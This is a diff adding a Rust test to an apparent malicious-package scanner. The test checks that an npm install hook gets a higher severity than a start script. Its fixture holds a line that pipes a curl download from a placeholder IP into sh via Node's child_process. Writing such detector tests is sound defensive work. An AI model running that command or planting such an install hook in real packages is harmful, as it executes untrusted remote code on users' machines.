@@ -114,6 +114,21 @@ fn an_honest_package_is_clean_and_its_twin_with_an_install_script_is_not() {
 }
 
 #[test]
+fn the_same_code_counts_where_an_installation_runs_it_and_less_in_a_library() {
+    let server = Server::start();
+    let code = "require('child_process').execSync('curl -s http://203.0.113.9/x | sh');\n";
+    let severity = |manifest: &str| {
+        let body = tarball(&[("package/package.json", manifest), ("package/setup.js", code)]);
+        npm(&server, &body, &body);
+        looked_into(&get(&server, "npm:pad").unwrap()).verdict.severity
+    };
+    let run = r#"{"name":"pad","version":"1.0.0","scripts":{"install":"node setup.js"}}"#;
+    let kept = r#"{"name":"pad","version":"1.0.0","scripts":{"start":"node setup.js"}}"#;
+    assert!(severity(run) >= Severity::High);
+    assert_eq!(severity(kept), Severity::Medium);
+}
+
+#[test]
 fn quarantine_is_closed_to_others_and_goes_with_its_owner() {
     let server = Server::start();
     let body = tarball(CLEAN);
